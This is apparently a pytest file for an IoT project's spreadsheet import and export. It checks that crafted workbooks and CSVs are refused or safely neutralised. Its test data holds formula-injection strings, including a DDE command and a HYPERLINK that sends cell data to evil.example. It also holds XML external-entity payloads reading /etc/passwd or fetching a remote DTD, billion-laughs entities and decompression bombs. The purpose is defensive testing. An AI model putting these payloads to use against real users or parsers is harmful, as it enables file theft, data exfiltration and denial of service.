"""Spreadsheets that somebody made on purpose: each is refused with a sentence, or read for what it says and no more.

No bomb of these is larger than some hundred kilobytes on the disk; none may take more than a little memory and time.
"""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Mapping, Sequence
from contextlib import contextmanager, suppress
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest

from iot_core.cells import disarmed, restored
from iot_core.cli import area_files, device_sheet, sheets, workbooks
from iot_core.cli.output import csv_lines
from iot_core.errors import RequestError
from iot_core.messages import said

if TYPE_CHECKING:
    from collections.abc import Iterator

HEAD = ("key", "name", "profile", "serial", "area")
GOOD = ("lamp-1", "Đèn 1", "native-streetlight", "S-1", "06685")
NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
Change = Callable[[str], str]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Đèn")', "=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(1)",
    "\t=1+1", "＝1+1",
)  # fmt: skip


@contextmanager
def bounded(megabytes: float, seconds: float) -> Iterator[None]:
    """Hold a block to memory that Python takes at most, and to CPU time."""
    tracemalloc.start()
    began = time.process_time()
    try:
        yield
        assert time.process_time() - began < seconds
        assert tracemalloc.get_traced_memory()[1] < megabytes * 1024 * 1024
    finally:
        tracemalloc.stop()


def workbook(path: Path, rows: Sequence[Sequence[Any]] = (HEAD, GOOD)) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    book.save(path)
    return path


def rewritten(path: Path, parts: Mapping[str, Change | bytes]) -> Path:
    """Change parts of a workbook, or add such as no program would write."""
    with zipfile.ZipFile(path) as source:
        content = {each.filename: source.read(each) for each in source.infolist()}
    for name, change in parts.items():
        content[name] = change if isinstance(change, bytes) else change(content[name].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in content.items():
            target.writestr(name, data)
    return path


def sheet_of(rows: str) -> bytes:
    return f'<worksheet xmlns="{NAMESPACE}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def refused(path: Path, code: str, *tells: object) -> None:
    """Hold that both imports refuse a file with this sentence, in both languages, naming the place."""
    for read in (device_sheet.read, area_files.read):
        with pytest.raises(RequestError) as caught:
            read(path)
        assert caught.value.code == code
        for lang in ("vi", "en"):
            sentence = said(caught.value, lang)
            assert path.name in sentence
            assert "{" not in sentence
            assert all(str(each) in sentence for each in tells), sentence


SHEET = "xl/worksheets/sheet1.xml"


def test_a_formula_that_was_worked_out_is_its_value_and_nothing_is_worked_out_here(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx")

    def change(xml: str) -> str:
        formula = '<c r="B2" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>Đèn 1</v></c>'
        return re.sub(r'<c r="B2".*?</c>', formula, xml)

    found = device_sheet.read(rewritten(path, {SHEET: change}))
    assert [row.name for row in found.rows] == ["Đèn 1"]


@pytest.mark.parametrize("formula", ["=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example","x")', "=A1&1"])
def test_a_formula_without_a_value_is_refused_with_its_cell(tmp_path: Path, formula: str) -> None:
    refused(workbook(tmp_path / "a.xlsx", [HEAD, ("lamp-1", formula)]), "sheet.formula", "B2")


def test_the_error_of_a_formula_is_no_name(tmp_path: Path) -> None:
    refused(workbook(tmp_path / "a.xlsx", [HEAD, ("lamp-1", "#REF!")]), "sheet.error_value", 2, "#REF!")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_text_that_looks_like_a_formula_is_exported_as_text_and_comes_back_as_it_was(
    tmp_path: Path, kind: str, text: str
) -> None:
    path = tmp_path / f"out.{kind}"
    device_sheet.write(path, [{"key": "lamp-1", "name": text, "profile": "native-streetlight", "notes": text}])
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(path).worksheets[0]
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}, "no formula"
    else:
        cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t＝"))]
    (row,) = device_sheet.read(path).rows
    assert row.name == text


def test_cells_are_disarmed_and_restored_without_loss() -> None:
    for cell in (*HOSTILE, "'quoted'", "plain", "-", "'=", "''=1", " =1+1", "\u00a0=1", "' +1", " plain", ""):
        assert restored(str(disarmed(cell))) == cell
        assert not re.match(r"\s*[=+\-@\t\r\n＝]", str(disarmed(cell)))
    assert restored("'=1") == "=1"  # a list that was written by hand
    assert disarmed(-5.5) == -5.5
    assert csv_lines(["name", "value"], [["=1+1", -5.5]]) == "name,value\n'=1+1,-5.5\n"


def test_a_bomb_of_texts_of_columns_or_of_rows_is_refused_before_it_takes_memory(tmp_path: Path) -> None:
    path = workbook(tmp_path / "strings.xlsx")
    with zipfile.ZipFile(path) as source:
        content = {each.filename: source.read(each) for each in source.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in content.items():
            if name != "xl/sharedStrings.xml":
                target.writestr(name, data)
        with target.open("xl/sharedStrings.xml", "w") as part:
            for _ in range(33):
                part.write(b"<si><t>x</t></si>" * 61_681)
    assert path.stat().st_size < 512 * 1024
    with bounded(16, 10):
        refused(path, "sheet.too_large")

    wide = "<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>"
    for rows, code, tells in (
        (wide, "sheet.too_wide", (1, workbooks.MOST_COLUMNS)),
        ("<row/>" * 500_000, "sheet.too_many_rows", (workbooks.MOST_ROWS,)),
    ):
        bomb = rewritten(workbook(tmp_path / f"{code}.xlsx"), {SHEET: sheet_of(rows)})
        assert bomb.stat().st_size < 512 * 1024
        with bounded(16, 10):
            refused(bomb, code, *tells)


def test_rows_that_are_not_there_cost_nothing_and_one_beyond_all_bounds_is_not_lost_silently(tmp_path: Path) -> None:
    head = "".join(f'<c t="inlineStr"><is><t>{each}</t></is></c>' for each in HEAD)
    far = '<row r="{}"><c r="A{}" t="inlineStr"><is><t>lamp-1</t></is></c><c r="XFD{}"><v></v></c></row>'
    rows = f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">{head}</row>{far}</sheetData>'
    for number, code in ((90_000, ""), (1_048_576, "sheet.too_many_rows")):
        xml = f'<worksheet xmlns="{NAMESPACE}">{rows}</worksheet>'.replace("{}", str(number))
        path = rewritten(workbook(tmp_path / f"{number}.xlsx"), {SHEET: xml.encode()})
        with bounded(24, 15):
            if code:
                refused(path, code)
            else:
                assert [row.number for row in sheets.read(path).rows] == [number]


def test_a_million_columns_too_many_rows_of_csv_and_a_quotation_mark_without_end_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.csv"
    path.write_text(",".join(["key"] * 1_000_000))
    with bounded(96, 10):
        refused(path, "sheet.too_wide", 1)
    with monkeypatch.context() as fewer:
        fewer.setattr(sheets, "MOST_ROWS", 5_000)
        path.write_text("key\n" + "a\n" * 5_000)
        refused(path, "sheet.too_many_rows", 5_000)
    path.write_text('key,name\nlamp-1,"' + "x\n" * 100_000)
    refused(path, "sheet.long_cell", 2)
    path.write_text("key\n" + "x" * (33 * 1024 * 1024))
    with bounded(80, 10):
        refused(path, "sheet.too_large")


def test_what_is_no_file_is_not_read_for_ever(tmp_path: Path) -> None:
    path = tmp_path / "zero"
    path.symlink_to("/dev/zero")
    refused(path, "sheet.no_file")
    refused(tmp_path / "gone.csv", "sheet.unreadable")


@pytest.mark.parametrize(
    "entities",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("part", [SHEET, "xl/styles.xml", "xl/_rels/workbook.xml.rels"])
def test_a_part_that_declares_entities_is_not_opened(tmp_path: Path, part: str, encoding: str, entities: bytes) -> None:
    path = workbook(tmp_path / "a.xlsx")
    with zipfile.ZipFile(path) as source:
        plain = source.read(part).decode()
    body = re.sub(r"^<\?xml.*?\?>", "", plain)
    text = f'<?xml version="1.0" encoding="{encoding}"?>{"<!-- x -->" * 20_000}{entities.decode()}{body}'
    refused(rewritten(path, {part: text.encode(encoding)}), "sheet.doctype")


def test_macros_are_not_run_links_not_followed_and_both_are_said(tmp_path: Path) -> None:
    path = rewritten(
        workbook(tmp_path / "a.xlsx"),
        {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro", "xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
    )
    found = sheets.read(path)
    assert len(found.rows) == 1
    assert "macros are not run" in found.dialect
    assert "links to other files are not followed" in found.dialect


def test_merged_cells_are_named_because_only_the_first_has_a_value(tmp_path: Path) -> None:
    def merged(ref: str) -> Path:
        path = workbook(tmp_path / "a.xlsx", [HEAD, GOOD, ("lamp-2",), ("lamp-3",)])
        cells = f'<mergeCells><mergeCell ref="{ref}"/></mergeCells>'
        return rewritten(
            path, {SHEET: lambda xml: xml.replace("</sheetData>", f"</sheetData>{cells}")}
        )  # fmt: skip

    refused(merged("E2:E4"), "sheet.merged", "E2:E4")
    refused(merged("C3:D3"), "sheet.merged", "C3:D3")
    assert len(device_sheet.read(merged("H2:H4")).rows) == 3, "beside the table"
    assert len(device_sheet.read(merged("A1:B1")).rows) == 3, "headings"


def test_a_title_stands_above_the_headings_and_a_hidden_sheet_is_not_the_list(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    book: Any = openpyxl.Workbook()
    draft, shown = book.worksheets[0], book.create_sheet("Thiết bị")
    draft.append(["key"])
    draft.append(["draft-1"])
    draft.sheet_state = "hidden"
    shown.append(["DANH SÁCH THIẾT BỊ"])
    shown.merge_cells("A1:E1")
    for line in ([], ["Mã thiết bị *", "Vĩ độ (độ)", "Kinh độ (độ)", "Số sê-ri"], ["lamp-1", "20,9512", 107.08, 12]):
        shown.append(line)
    book.save(path)
    found = device_sheet.read(path)
    assert ("Thiết bị" in found.dialect, found.ignored) == (True, ())
    row = found.rows[0]
    assert (row.row, row.key, row.latitude, row.longitude, row.serial) == (4, "lamp-1", 20.9512, 107.08, "12")
    listed = tmp_path / "b.csv"
    listed.write_text("Danh sách;;\r\n;;\r\nMã thiết bị;Tên;\r\nlamp-1;Đèn;\r\n", encoding="utf-8-sig")
    assert [(row.row, row.name) for row in device_sheet.read(listed).rows] == [(4, "Đèn")]
    areas = tmp_path / "c.csv"
    areas.write_bytes("Danh sách;;\r\nMã;Tên;Cấp\r\n06685;Hồng Gai;ward\r\n".encode("utf-8-sig"))
    assert [(each.key, each.name) for each in area_files.read(areas)[0]] == [("06685", "Hồng Gai")]


def test_days_are_read_as_they_are_written_in_vietnam_and_as_excel_keeps_them(tmp_path: Path) -> None:
    said = ["31/12/2027", "31-12-2027", "2027-12-31", date(2027, 12, 31), 46752, "1/2/2027", "12/31/2027", "2027"]
    rows = [("Mã thiết bị", "Bảo hành đến"), *((f"lamp-{n}", each) for n, each in enumerate(said))]
    found = device_sheet.read(workbook(tmp_path / "a.xlsx", rows))
    assert [row.warranty_until for row in found.rows] == [*[date(2027, 12, 31)] * 5, date(2027, 2, 1)]
    assert [(each.row, each.column) for each in found.problems] == [(8, "warranty_until"), (9, "warranty_until")]
    assert "31/12/2027" in found.problems[0].detail


def test_what_excel_made_a_date_or_cut_to_fifteen_digits_is_refused_by_row_and_column(tmp_path: Path) -> None:
    rows: list[Sequence[Any]] = [
        HEAD, ("lamp-1", "A", None, date(2026, 2, 1), None), ("lamp-2", "B", None, 24124091700000017, None),
        ("lamp-3", "C", None, 45291, 6685), ("lamp-4", "D", None, "45291", "06685"),
        ("lamp-5", "E", None, "24124091700000017", None), ("lamp-6", "F", None, "24E124-0917", None),
    ]  # fmt: skip
    found = device_sheet.read(workbook(tmp_path / "a.xlsx", rows))
    assert [(each.row, each.column) for each in found.problems] == [(2, "serial"), (3, "serial")]
    assert ["date" in each.detail or "15 digits" in each.detail for each in found.problems] == [True, True]
    assert [(row.key, row.serial, row.area) for row in found.rows] == [
        ("lamp-3", "45291", "6685"), ("lamp-4", "45291", "06685"), ("lamp-5", "24124091700000017", None),
        ("lamp-6", "24E124-0917", None),
    ]  # fmt: skip
    path = tmp_path / "a.csv"
    path.write_text("key;serial\nlamp-1;2,41241E+16\n")
    assert [(each.row, each.column) for each in device_sheet.read(path).problems] == [(2, "serial")]
    with pytest.raises(RequestError, match=r"sheet\.bad_row"):
        area_files.read(workbook(tmp_path / "b.xlsx", [("key", "name", "kind"), ("x", date(2026, 2, 1), "ward")]))


def test_bytes_that_are_no_text_are_refused_with_their_line(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes("key,name\nlamp-1,Đèn\nlamp-2,Đ\0èn\n".encode())
    refused(path, "sheet.nul", 3)
    good = "key,name\n" + "".join(f"lamp-{n},Đèn đường số {n}\n" for n in range(50))
    for mark, encoding in ((b"", "utf-8"), (b"\xef\xbb\xbf", "utf-8-sig")):
        path.write_bytes(mark + good.encode() + b"lamp-x,\xd0e\xccn\n")
        refused(path, "sheet.bad_bytes", 52, encoding)
    path.write_bytes(b"\xff\xfe" + good.encode("utf-16-le") + b"\x00\xd8")
    refused(path, "sheet.bad_bytes", "utf-16")
    path.write_bytes("key,name\nlamp-1,Hạ Long\n".encode("cp1258", "ignore") + b"lamp-2,H\xe2\xf2 Long\n")
    assert device_sheet.read(path).dialect == "CSV, windows-1258, ,"


@pytest.mark.parametrize("name", ["a.xlsx", "a.xls", "a.csv"])
def test_an_old_or_locked_workbook_is_known_whatever_it_is_called(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000))
    refused(path, "sheet.old_or_locked")


def test_whatever_else_is_done_to_a_workbook_costs_no_traceback(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx")
    whole = path.read_bytes()
    codes: set[str] = set()
    for number, cut in enumerate(range(4, len(whole), len(whole) // 40)):
        for data in (whole[:cut], whole[:cut] + bytes([whole[cut] ^ 0x55]) + whole[cut + 1 :]):
            broken = tmp_path / f"{number}.xlsx"
            broken.write_bytes(data)
            try:
                device_sheet.read(broken)
            except RequestError as error:
                codes.add(error.code.partition(".")[0])
    assert codes == {"sheet"}
    for cell in (
        '<c r="ZZZZ1"><v>1</v></c>', '<c t="s"><v>99</v></c>', '<c t="d"><v>soon</v></c>', '<c s="77"><v>1</v></c>',
        '<c t="n"><v>1e999</v></c>', '<c t="b"><v>maybe</v></c>', '<c r="A0"><v>1</v></c>', '<c t="e"/>',
    ):  # fmt: skip
        rows = f'<row r="1"><c t="inlineStr"><is><t>key</t></is></c></row><row r="2">{cell}</row>'
        odd = rewritten(workbook(path), {SHEET: sheet_of(rows)})
        with suppress(RequestError):
            device_sheet.read(odd)
